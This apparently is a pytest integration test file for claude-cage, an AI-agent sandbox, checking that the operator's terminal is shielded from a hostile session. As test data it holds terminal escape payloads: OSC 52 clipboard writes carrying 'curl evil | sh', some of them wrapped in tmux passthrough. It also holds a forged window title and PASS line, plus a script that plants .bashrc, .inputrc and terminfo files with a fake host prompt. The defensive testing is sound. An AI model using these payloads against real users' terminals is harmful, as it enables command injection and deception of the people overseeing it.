"""The operator's terminal, attacked from inside a session: what the session writes to
its logs comes out of `logs --raw` escaped on a terminal (no clipboard write, title,
screen clear or forged PASS line reaches it); `attach` and `shell` drop clipboard
writes and passthrough sequences on the way, however the agent has set its tmux; and
`shell` reads none of the startup files the agent can write."""

from __future__ import annotations

import base64
import fcntl
import re
import struct
import termios

import pytest

from tests.conftest import Cage, logs_bytes
from tests.integration.terminal import DETACH, Terminal
from tests.integration.test_attach import on_a_tty
from tests.polling import wait_until

pytestmark = pytest.mark.engine

# Written by the session to its own container log (the stdout of its PID 1).
HOSTILE = (
    r"\033]52;c;Y3VybCBldmlsIHwgc2g=\007"  # OSC 52: put "curl evil | sh" on the clipboard
    r"\033]0;root@host: ~\007"  # the window title
    r"\033[2J\033[H"  # clear the screen
    r"\r\033[2KPASS  read-only root  root filesystem is read-only\n"  # a forged line
)
CONTROL = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]")


@pytest.fixture(scope="module")
def session(cage_module: Cage) -> str:
    name = cage_module.name("term")
    assert cage_module("start", "--name", name, "--network", "none", "--detach").code == 0
    return name


def write_to_log(cage: Cage, name: str, text: str) -> None:
    wrote = cage("exec", name, "--", "sh", "-c", f"printf '{text}' > /proc/1/fd/1")
    assert wrote.code == 0, wrote.output


def test_logs_show_escape_sequences_escaped(cage_module: Cage, session: str) -> None:
    write_to_log(cage_module, session, HOSTILE)
    # On a terminal, the container's output comes out escaped.
    terminal = Terminal(["claude-cage", "logs", session, "--raw"], cage_module.env)
    try:
        assert terminal.wait(60) == 0
    finally:
        terminal.close()
    out = terminal.output.replace(b"\r\n", b"\n")  # the terminal's own line endings
    assert not CONTROL.search(out), out
    text = out.decode()
    assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in text  # visible, and inert
    assert "\\x1b]0;root@host: ~\\x07\\x1b[2J" in text
    assert not any(line.startswith("PASS") for line in text.splitlines())
    assert "\\r\\x1b[2KPASS  read-only root" in text


def test_logs_raw_to_a_pipe_passes_them_through(cage_module: Cage, session: str) -> None:
    write_to_log(cage_module, session, HOSTILE)
    out = logs_bytes(cage_module, session, "--raw", "--tail", "1")
    assert b"\x1b]52;c;" in out and b"\r\x1b[2KPASS" in out


def test_shell_reads_no_startup_file_the_agent_wrote(cage_module: Cage, session: str) -> None:
    # Every file bash, readline and ncurses would read from the agent's home, each
    # announcing itself, and a prompt made to look like the host's.
    plant = (
        "cd ~ && for f in .bashrc .profile .bash_profile .bash_login .bash_logout; do "
        "printf 'echo PLANTED-$f; PS1=\"root@host:~# \"\\n' > $f; done && "
        'printf \'"\\\\C-m": "echo PLANTED-inputrc\\\\n"\\n\' > .inputrc && '
        "printf 'echo PLANTED-history\\n' > .bash_history && "
        "mkdir -p .terminfo && printf 'xterm-256color|planted,\\n\\tclear=PLANTED-terminfo,\\n' "
        "> /tmp/t.src && tic -o .terminfo /tmp/t.src 2>/dev/null; ls -a ~"
    )
    planted = cage_module("exec", session, "--", "sh", "-c", plant)
    assert ".bashrc" in planted.stdout and ".terminfo" in planted.stdout, planted.output
    out = on_a_tty(
        cage_module,
        ["claude-cage", "shell", session],
        b"echo answer-$((6*7)); tput clear; exit\n",
        timeout=60,
    )
    assert "answer-42" in out
    assert "PLANTED" not in out and "root@host" not in out
    assert f"[cage {session}] /workspace $" in out


# What the agent puts on the operator's clipboard, three ways: an OSC 52 of its own,
# one wrapped in tmux's passthrough (which its tmux unwraps), and one wrapped twice
# (its tmux unwraps one level, so a passthrough DCS itself reaches the terminal).
DIRECT = base64.b64encode(b"direct: curl evil | sh").decode()
WRAPPED = base64.b64encode(b"wrapped: curl evil | sh").decode()
TWICE = base64.b64encode(b"twice: curl evil | sh").decode()
CLIPBOARD = (
    f"\\033]52;c;{DIRECT}\\007"
    f"\\033Ptmux;\\033\\033]52;c;{WRAPPED}\\007\\033\\\\"
    f"\\033Ptmux;\\033\\033Ptmux;\\033\\033\\033\\033]52;c;{TWICE}\\007"
    f"\\033\\033\\\\\\033\\\\"
)
TMUX = "tmux -f /etc/cage/tmux.conf -S /run/cage/tmux.sock"


def agent_owns_its_tmux(cage: Cage, name: str) -> None:
    """What an agent can do to its own tmux: pass clipboard writes and passthrough on to
    the terminals attached, and run a pane of its choosing (here, one that waits)."""
    state = lambda: cage("exec", name, "--", "cage-agent", "state").stdout  # noqa: E731
    wait_until(
        lambda: state().startswith("exited"), 60, "the session to exit", 0.2
    )  # no network: Claude Code gave up
    script = (
        f"{TMUX} set -g set-clipboard on && {TMUX} set -g allow-passthrough on && "
        f"rm -f /run/cage/agent.status && {TMUX} respawn-pane -k -t agent: 'sleep 3600'"
    )
    done = cage("exec", name, "--", "sh", "-c", script)
    assert done.code == 0, done.output
    assert state().startswith("running")


def agent_prints(cage: Cage, name: str, text: str) -> None:
    """The agent writes to its own pane's terminal, as any command of it can."""
    script = f"printf '{text}' > \"$({TMUX} display -p -t agent: '#{{pane_tty}}')\""
    done = cage("exec", name, "--", "sh", "-c", script)
    assert done.code == 0, done.output


def attach_and_receive(cage: Cage, name: str, *flags: str) -> bytes:
    """Every byte `attach` writes to the operator's terminal while the agent prints its
    clipboard writes, then a marker; detached with Ctrl-\\."""
    terminal = Terminal(["claude-cage", "attach", name, *flags], cage.env)
    try:
        clients = lambda: cage("exec", name, "--", "cage-agent", "clients").stdout.strip()  # noqa: E731
        wait_until(lambda: clients() == "1", 60, "one client on tmux", 0.2)
        agent_prints(cage, name, CLIPBOARD + "printed-after")
        terminal.expect("printed-after")
        terminal.type(DETACH)
        assert terminal.wait() == 0
    finally:
        terminal.close()
    return terminal.output


@pytest.fixture
def tmux_session(cage: Cage) -> str:
    name = cage.name("osc")
    assert cage("start", "--name", name, "--network", "none", "--detach").code == 0
    agent_owns_its_tmux(cage, name)
    return name


def test_attach_drops_clipboard_writes_and_passthrough(cage: Cage, tmux_session: str) -> None:
    out = attach_and_receive(cage, tmux_session)
    assert b"\x1b]52" not in out and b"\x1bPtmux;" not in out
    for payload in (DIRECT, WRAPPED, TWICE):
        assert payload.encode() not in out
    # The same through --raw-terminal: the bytes do reach the terminal, so the test sees them.
    raw = attach_and_receive(cage, tmux_session, "--raw-terminal")
    assert re.search(rf"\x1b]52;c?;{DIRECT}\x07".encode(), raw)  # tmux's, set-clipboard on
    assert f"\x1b]52;c;{WRAPPED}\x07".encode() in raw  # unwrapped by allow-passthrough
    assert f"\x1bPtmux;\x1b\x1b]52;c;{TWICE}".encode() in raw  # a DCS, one level left


def test_shell_drops_clipboard_writes_and_passthrough(cage_module: Cage, session: str) -> None:
    keys = f"printf '{CLIPBOARD}'; echo done-$((6*7)); exit\n".encode()
    out = on_a_tty(cage_module, ["claude-cage", "shell", session], keys, timeout=60)
    assert "done-42" in out
    assert "\x1b]52" not in out and "\x1bPtmux;" not in out
    raw = on_a_tty(cage_module, ["claude-cage", "shell", "--raw-terminal", session], keys)
    assert f"\x1b]52;c;{DIRECT}\x07" in raw and "\x1bPtmux;" in raw


def test_shell_follows_the_terminals_size(cage_module: Cage, session: str) -> None:
    terminal = Terminal(["claude-cage", "shell", session], cage_module.env, rows=30, cols=100)

    def size_shows(size: str) -> None:
        """The engine sets an exec's size just after it starts: ask until it has."""
        for _ in range(20):
            mark = terminal.type(b"stty size\n")
            try:
                terminal.expect(size, timeout=1, since=mark)
                return
            except AssertionError:
                continue
        raise AssertionError(f"the shell never saw {size}: {terminal.output[-300:]!r}")

    try:
        terminal.expect(f"[cage {session}]")
        size_shows("30 100")
        # The terminal is resized: the kernel signals claude-cage, which passes it on.
        fcntl.ioctl(terminal.master, termios.TIOCSWINSZ, struct.pack("HHHH", 33, 91, 0, 0))
        size_shows("33 91")
        terminal.type(b"exit 3\n")
        assert terminal.wait() == 3
    finally:
        terminal.close()
